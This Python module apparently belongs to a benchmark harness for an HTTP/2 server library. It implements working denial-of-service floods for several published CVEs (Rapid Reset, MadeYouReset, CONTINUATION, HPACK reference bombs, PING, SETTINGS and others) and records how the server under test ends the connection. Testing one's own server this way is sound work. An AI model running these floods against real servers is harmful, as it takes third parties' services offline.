"""Attacks on HTTP/2: frames that cost their sender nothing, over and over."""

from __future__ import annotations

import contextlib
import itertools
from collections.abc import Iterable, Iterator

import trio

from benchmarks.attacks.ground import Ground, Line
from benchmarks.attacks.tally import CLOSED, HUNG
from trioweb.wire.h2_codes import PREFACE, Code, Flag, Kind, frame

# Seconds from the beginning of a flood in which a server has had enough of it.
PATIENCE = 10.0

# Frames sent at one go: less than a server reads in one go.
AT_ONCE = 200

# Bytes of an answer that are kept, to find the GOAWAY at its end.
KEPT = 64 * 1024

# :method GET, :scheme http and :path / by their numbers, :authority a; for all of its
# streams one peer has to say no more.
_HEAD = b"\x82\x86\x84\x01\x01a"
_WHOLE = Flag.END_STREAM | Flag.END_HEADERS

# A field of 3.9 KB to be remembered, and fifteen references to it.
_SIZE = 3900
_LARGE = (
    b"\x40\x01x\x7f" + bytes([(_SIZE - 127) % 128 + 128, (_SIZE - 127) // 128])
) + b"a" * _SIZE
_REFERENCES = b"\xbe" * 15


async def rapid_reset(ground: Ground) -> None:
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    await _flood(
        ground,
        (_get(stream) + frame(Kind.RST_STREAM, stream, bytes(4)) for stream in _odd()),
    )


async def made_you_reset(ground: Ground) -> None:
    """Streams that the server has to reset (CVE-2025-8671)."""
    too_much = (2**31 - 1).to_bytes(4, "big")
    await _flood(
        ground,
        (
            _get(stream) + frame(Kind.WINDOW_UPDATE, stream, too_much)
            for stream in _odd()
        ),
    )


async def continuations(ground: Ground) -> None:
    """A block of fields that never ends (CVE-2024-27316)."""
    begin = frame(Kind.HEADERS, 1, _HEAD, Flag.END_STREAM)
    await _flood(ground, _again(frame(Kind.CONTINUATION, 1)), begin)


async def references(ground: Ground) -> None:
    """Requests of 40 bytes with 58 KB of fields (CVE-2016-6581)."""
    begin = frame(Kind.HEADERS, 1, _HEAD + _LARGE, _WHOLE)
    bombs = (frame(Kind.HEADERS, each, _HEAD + _REFERENCES, _WHOLE) for each in _odd(3))
    await _flood(ground, bombs, begin)


async def pings(ground: Ground) -> None:
    """PING, which must be answered (CVE-2019-9512)."""
    await _flood(ground, _again(frame(Kind.PING, 0, bytes(8))))


async def settings(ground: Ground) -> None:
    """SETTINGS, which must be acknowledged (CVE-2019-9515)."""
    await _flood(ground, _again(frame(Kind.SETTINGS, 0)))


async def empty_data(ground: Ground) -> None:
    """DATA with nothing in it (CVE-2019-9518)."""
    begin = frame(Kind.HEADERS, 1, b"\x83" + _HEAD[1:], Flag.END_HEADERS)
    await _flood(ground, _again(frame(Kind.DATA, 1)), begin)


async def priorities(ground: Ground) -> None:
    """PRIORITY, which changes what depends on what (CVE-2019-9513)."""
    trees = (
        frame(Kind.PRIORITY, stream, (stream + 2).to_bytes(4, "big") + b"\x10")
        for stream in _odd()
    )
    await _flood(ground, trees)


async def windows(ground: Ground) -> None:
    """WINDOW_UPDATE by one byte (CVE-2019-9511)."""
    await _flood(ground, _again(frame(Kind.WINDOW_UPDATE, 0, b"\0\0\0\1")))


FLOODS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuations,
    "references": references,
    "ping": pings,
    "settings": settings,
    "empty-data": empty_data,
    "priority": priorities,
    "window": windows,
}


def _odd(first: int = 1) -> Iterator[int]:
    return iter(range(first, 2**31, 2))


def _again(one: bytes) -> Iterator[bytes]:
    return itertools.repeat(one)


def _get(stream: int) -> bytes:
    return frame(Kind.HEADERS, stream, _HEAD, _WHOLE)


async def _flood(ground: Ground, frames: Iterable[bytes], begin: bytes = b"") -> None:
    """Send *frames* until the server says goodbye; its reason is the ending."""
    async with ground.connect() as line, trio.open_nursery() as sending:
        await line.send(PREFACE + frame(Kind.SETTINGS, 0) + begin)
        sending.start_soon(_pour, line, iter(frames))
        with trio.move_on_after(PATIENCE):
            line.ending = await _goodbye(line)
        sending.cancel_scope.cancel(reason="it has had enough")


async def _pour(line: Line, frames: Iterator[bytes]) -> None:
    # Whoever says goodbye may close before all has come.
    with contextlib.suppress(ConnectionError):
        while piece := b"".join(itertools.islice(frames, AT_ONCE)):
            await line.send(piece)


async def _goodbye(line: Line) -> str:
    """Read up to a GOAWAY, and whether the connection ends then: why it does."""
    answer = b""
    while (found := _reason(answer)) is None:
        piece = await line.receive()
        if not piece:
            return CLOSED
        answer = (answer + piece)[-KEPT:]
    # It may have closed for good already, with much of what was sent unread.
    with contextlib.suppress(OSError):
        line.finish()
    with trio.move_on_after(PATIENCE):
        while await line.receive():
            pass
        return found
    return HUNG


def _reason(answer: bytes) -> str | None:
    """Why the server goes, if the last of *answer* is a GOAWAY."""
    last = answer[-17:]
    if len(last) == 17 and last.startswith(b"\0\0\x08\x07\0\0\0\0\0"):
        return Code(int.from_bytes(last[13:], "big")).name
    return None
